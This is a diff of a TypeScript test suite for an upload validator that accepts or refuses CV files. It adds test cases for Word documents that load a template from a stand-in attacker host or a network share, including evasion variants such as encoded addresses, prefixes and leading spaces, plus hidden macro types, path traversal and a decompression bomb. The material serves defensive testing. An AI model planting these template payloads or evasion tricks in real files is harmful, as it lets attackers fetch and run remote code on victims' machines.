@@ -43,6 +43,9 @@ const faultOf = async (content: string | Buffer, name: string) =>
     (error: { fault?: string }) => error.fault ?? error,
   )
 
+const template = (attribute: string) =>
+  `<Relationships><Relationship Id="a" Type="x/attachedTemplate" ${attribute}/></Relationships>`
+
 describe('an accepted file', () => {
   it('is recognized by its content', async () => {
     expect(await inspect(pdf, 'cv.pdf')).toEqual({ name: 'cv.pdf', mediaType: 'application/pdf' })
@@ -57,15 +60,43 @@ describe('an accepted file', () => {
   it('may have bytes before its header if it is a PDF, as scanners write them', async () => {
     expect(await inspect(`\r\n@PJL ENTER LANGUAGE=PDF\r\n${pdf}`, 'scan.pdf')).toMatchObject({ name: 'scan.pdf' })
   })
+  it('may name a template of the machine on which it was written, and its main part as it likes', async () => {
+    const local = ['file:///C:\\Users\\Ana\\Resume.dotx', 'file://localhost/Users/ana/Resume.dotx', 'Resume.dotx']
+    for (const target of local)
+      expect(await faultOf(docx({ 'word/_rels/settings.xml.rels': template(`Target="${target}"`) }), 'cv.docx')).toBe(
+        null,
+      )
+    const types = `<t:Types xmlns:t="x"><t:Override ContentType='${word}.document&#46;main+xml' PartName='/word/document2.xml'/></t:Types>`
+    const parts = { '[Content_Types].xml': types, 'word/document2.xml': '<document/>', 'word/document.xml': '<html/>' }
+    expect(await faultOf(docx(parts), 'cv.docx')).toBe(null)
+  })
   it('gets an extension if its name has none', async () => {
     expect(await inspect(pdf, 'document')).toMatchObject({ name: 'document.pdf' })
     expect(await faultOf('just text', 'document')).toBe('type')
   })
 })
 
+const web = 'Target="https://evil.test/t.dotm"'
+const remoteTemplates: [how: string, text: string, part?: string][] = [
+  ['plainly', template(web)],
+  ['with an encoded address', template('Target="&#104;ttps://evil.test/t.dotm"')],
+  ['with an encoded type', template(web).replace('attached', 'attache&#100;')],
+  [
+    'with a prefix',
+    `<p:Relationships xmlns:p="y"><p:Relationship Type="x/attachedTemplate" ${web}/></p:Relationships>`,
+  ],
+  [
+    'behind a sign',
+    '<Relationships><Relationship Target="https://evil.test/?a>b" Type="x/attachedTemplate"/></Relationships>',
+  ],
+  ['behind a space', template('Target=" https://evil.test/t.dotm"')],
+  ['from another part', template(web), 'preferences.xml'],
+  ['in a share', template('Target="file:////server/t.dotm"')],
+  ['in an encoded share', template('Target="file:///%5C%5Cserver\\t.dotm"')],
+  ['in a plain share', template('Target="\\\\server\\t.dotm"')],
+]
+
 describe('a refused file', () => {
-  const tag = (attribute: string) =>
-    `<Relationships><Relationship Id="a" Type="x/attachedTemplate" ${attribute}/></Relationships>`
   const cases: [why: string, content: string | Buffer, name: string, fault: string][] = [
     ['nothing in it', '', 'cv.pdf', 'empty'],
     ['more than 10 MB', Buffer.alloc(maxUploadBytes + 1, 0x20), 'cv.txt', 'tooLarge'],
@@ -97,12 +128,19 @@ describe('a refused file', () => {
     ['a part that is no document', docx({ 'word/document.xml': '<html/>' }), 'cv.docx', 'damaged'],
     ['a path out of the archive', docx({ '../evil.sh': 'x' }), 'cv.docx', 'damaged'],
     ['a bomb', docx({ 'word/document.xml': ' '.repeat(40_000_000) }), 'cv.docx', 'damaged'],
-    [
-      'a template on the web',
-      docx({ 'word/_rels/settings.xml.rels': tag('Target="https://evil.test/t.dotm"') }),
+    ...remoteTemplates.map(([how, text, part = 'settings.xml']): [string, Buffer, string, string] => [
+      `a template on the web, ${how}`,
+      docx({ [`word/_rels/${part}.rels`]: text }),
       'cv.docx',
       'remoteTemplate',
+    ]),
+    [
+      'macros under an encoded type',
+      docx({}, 'application/vnd.ms-word.document.&#109;acroEnabled.main+xml'),
+      'cv.docx',
+      'macros',
     ],
+    ['relationships that are cut', docx({ 'word/_rels/a.xml.rels': '<Relationships><Rel' }), 'cv.docx', 'damaged'],
     ['a cut archive', docx().subarray(0, 200), 'cv.docx', 'damaged'],
     ['a cut picture', png(2, 2).subarray(0, 50), 'cv.png', 'damaged'],
     ['a picture of 400 million pixels', png(20_000, 20_000), 'cv.png', 'hugePicture'],
